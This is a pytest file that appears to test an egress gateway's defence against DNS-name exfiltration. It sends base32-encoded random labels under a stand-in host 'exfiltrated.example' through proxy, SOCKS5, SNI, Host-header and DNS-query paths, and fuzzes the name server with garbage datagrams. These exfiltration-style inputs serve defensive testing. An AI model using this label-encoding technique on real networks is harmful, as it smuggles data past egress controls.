"""Threat 22: names as messages. No denied name is ever asked for: a proxy asks after the verdict, and as a name server
the gateway asks for nothing that no rule allows.
"""

import base64
import os
import random
import socket

import dns.exception
import dns.message
import dns.query
import dns.rcode
import pytest

from support.gateway import Gateway
from support.http import client_hello, connect_refusal, request_via_proxy, socks5_connect
from support.lab import ALLOWED, RULES, Lab, alert_for, rule
from support.sockets import free_port
from support.waiting import PATIENCE, eventually

EXTRA_RULES = rule("odd", "*.odd.example", "80 http") + rule("odd-denied", "*.no.odd.example", "80 http", action="deny")
OPTIONS = {"egress_dns_queries_per_second": 10_000}
TIMES = 50


@pytest.fixture(scope="module")
def name_server(data_path: str) -> int:
    """The port on which clients ask."""
    return free_port()


@pytest.fixture(scope="module")
def attacked(shared_gateway, data_path: str, socks_port: int, name_server: int) -> Gateway:
    modes = ["regular", f"socks5@{socks_port}", f"dns@{name_server}"]
    return shared_gateway(RULES + EXTRA_RULES, OPTIONS, data_path=data_path, mode=modes)


def ask(port: int, name: str, kind: str = "A", over: str = "udp") -> str:
    """What the gateway says."""
    send = dns.query.tcp if over == "tcp" else dns.query.udp
    return dns.rcode.to_text(send(dns.message.make_query(name, kind), "127.0.0.1", port=port, timeout=PATIENCE).rcode())


def hears(port: int, name: str) -> str | None:
    """What the gateway says, if it does within a second."""
    try:
        answer = dns.query.udp(dns.message.make_query(name, "A"), "127.0.0.1", port=port, timeout=1)
    except dns.exception.Timeout:
        return None
    return dns.rcode.to_text(answer.rcode())


def secret() -> str:
    """A label that carries 30 bytes out."""
    return base64.b32encode(os.urandom(30)).decode().lower().rstrip("=")


def test_threat_22_denied_names_are_never_asked_for(lab: Lab) -> None:
    with lab.refused("no_rule", times=4 * TIMES):
        for number in range(TIMES):
            names = [f"{secret()}.{number}.exfiltrated.example", f"{secret()}.{ALLOWED}"]
            assert request_via_proxy(lab.gateway, "GET", f"http://{names[0]}/").status == 403
            assert request_via_proxy(lab.gateway, "GET", f"http://{names[1]}/").status == 403
            assert connect_refusal(lab.gateway, f"{names[0]}:443").status == 403
            code, sock = socks5_connect(lab.socks, names[0], 443)
            sock.close()
            assert code == 2
    assert lab.dns.queries == []


def test_threat_22_nor_are_names_in_the_other_claims(lab: Lab) -> None:
    with lab.refused("sni_mismatch", times=TIMES):
        for _ in range(TIMES):
            alert_for(lab.tunnel("connect", ALLOWED), client_hello(f"{secret()}.exfiltrated.example"))
    with lab.refused("host_mismatch", times=TIMES):
        for _ in range(TIMES):
            host = {"Host": f"{secret()}.exfiltrated.example"}
            assert request_via_proxy(lab.gateway, "GET", f"http://{ALLOWED}/", host).status == 421
    assert lab.dns.queries == []


def test_threat_22_nor_names_that_a_rule_denies_or_allows_on_another_port(lab: Lab) -> None:
    with lab.refused("denied_by_rule", times=TIMES):
        for _ in range(TIMES):
            assert request_via_proxy(lab.gateway, "GET", f"http://{secret()}.no.odd.example/").status == 403
    with lab.refused("port_not_allowed", times=TIMES):
        for _ in range(TIMES):
            assert request_via_proxy(lab.gateway, "GET", f"http://{secret()}.odd.example:8080/").status == 403
    assert lab.dns.queries == []


@pytest.mark.parametrize("what", ["an opened tunnel", "half a hello"])
def test_threat_22_a_tunnel_alone_asks_for_nothing(lab: Lab, what: str) -> None:
    """What may leave hangs on the first bytes, so until then not even the name does."""
    with lab.tunnel("connect", ALLOWED) as sock:
        if what == "half a hello":
            sock.sendall(client_hello(ALLOWED)[:100])
        lab.gateway.metrics()  # a round trip of the gateway's loop
        assert lab.dns.queries == []
        lab.assert_nothing_left()


def test_threat_22_allowed_names_are_asked_for_once(lab: Lab) -> None:
    """The control, and the cache, of which each worker has one."""
    lab.dns.set("once.odd.example", ["203.0.113.10"], ttl=60)  # a name of its own, which nothing else has asked for
    for _ in range(3 * lab.gateway.workers):
        assert request_via_proxy(lab.gateway, "GET", "http://once.odd.example/").status == 200
    assert 1 <= lab.dns.count("once.odd.example", "A") <= lab.gateway.workers
    assert {query.name for query in lab.dns.queries} == {"once.odd.example"}


# --- the gateway as a name server ---


@pytest.mark.parametrize("over", ["udp", "tcp"])
def test_threat_22_random_labels_are_not_asked_for(lab: Lab, name_server: int, over: str) -> None:
    kinds = ("A", "AAAA", "HTTPS", "TXT", "NULL")
    with lab.refused("no_rule", times=TIMES * 2):
        for number in range(TIMES):
            kind = kinds[number % len(kinds)]
            assert ask(name_server, f"{secret()}.{number}.exfiltrated.example", kind, over) == "REFUSED"
            assert ask(name_server, f"{secret()}.{ALLOWED}", kind, over) == "REFUSED"
    assert lab.dns.queries == []


def test_threat_22_nor_names_that_a_rule_denies(lab: Lab, name_server: int) -> None:
    with lab.refused("denied_by_rule", times=TIMES):
        for _ in range(TIMES):
            assert ask(name_server, f"{secret()}.no.odd.example") == "REFUSED"
    assert lab.dns.queries == []


def test_threat_22_nor_long_labels_under_a_wildcard(lab: Lab, name_server: int) -> None:
    with lab.refused("label_too_long", times=TIMES):
        for _ in range(TIMES):
            assert ask(name_server, f"{secret()}x.odd.example", "HTTPS") == "REFUSED"
    assert lab.dns.queries == []


def test_threat_22_nor_what_is_no_name(lab: Lab, name_server: int) -> None:
    names = [".", "203.0.113.66", "0x7f.1", "a b.odd.example", "a\\.b.odd.example", "\\000.odd.example"]
    with lab.refused("malformed_host", times=len(names)):
        for name in names:
            assert ask(name_server, name) == "REFUSED", name
    assert lab.dns.queries == []


def test_threat_22_other_types_of_allowed_names_are_no_way_out_either(lab: Lab, name_server: int) -> None:
    for kind in ("TXT", "NULL", "MX", "SRV", "CNAME", "NS", "ANY", "TYPE65280"):
        assert ask(name_server, f"{secret()[:40]}.odd.example", kind) == "NOERROR"
    with lab.refused("protocol_not_allowed", times=2):
        assert ask(name_server, "fine.odd.example", "AXFR") == "REFUSED"
        assert ask(name_server, "fine.odd.example", "IXFR") == "REFUSED"
    assert lab.dns.queries == []


def test_threat_22_garbage_neither_leaves_nor_stops_it(lab: Lab, name_server: int) -> None:
    """And no answer is larger than a path takes, or than the question asked for."""
    chance = random.Random(22)
    query = dns.message.make_query("fine.odd.example", "A").to_wire()
    # Before the first of it, since some of the garbage asks for this name, and "no such name" is remembered.
    lab.dns.set("fine.odd.example", ["203.0.113.10"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("127.0.0.1", name_server))
        sock.setblocking(False)
        for number in range(500):
            data = bytearray(query if number % 2 else chance.randbytes(chance.randint(0, 600)))
            for _ in range(chance.randint(1, 4) if data else 0):
                # The opcode and the response bit stay, so that most of it is looked at.
                data[chance.choice([0, 1, *range(3, len(data))]) % len(data)] = chance.randrange(256)
            sock.send(bytes(data))
            try:
                reply = sock.recv(65535)
            except BlockingIOError:
                continue
            assert len(reply) <= 1232
    # Of so many datagrams at once the kernel may have had to drop some, and what comes right behind them as well.
    assert eventually(lambda: hears(name_server, "fine.odd.example"), "an answer") == "NOERROR"
    lab.gateway.wait_for_metric("egress_decisions_total", protocol="dns", reason="malformed_request")
    asked = {question.name for question in lab.wire.dns_queries()}
    assert all(name.endswith(".odd.example") for name in asked), asked
    assert lab.gateway.metric("egress_internal_errors_total") == 0


def test_threat_22_an_answer_is_not_a_question(lab: Lab, name_server: int) -> None:
    """Two servers that answer each other would go on for ever."""
    answer = dns.message.make_response(dns.message.make_query(ALLOWED, "A")).to_wire()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("127.0.0.1", name_server))
        sock.settimeout(0.2)
        sock.send(answer)
        with pytest.raises(TimeoutError):
            sock.recv(100)
    assert lab.dns.queries == []


def test_threat_22_allowed_names_are_answered(lab: Lab, name_server: int) -> None:
    """The control."""
    assert ask(name_server, ALLOWED) == "NOERROR"
    assert ask(name_server, f"{secret()[:40]}.odd.example") == "NXDOMAIN"
    assert {query.type for query in lab.dns.queries} == {"A", "AAAA"}
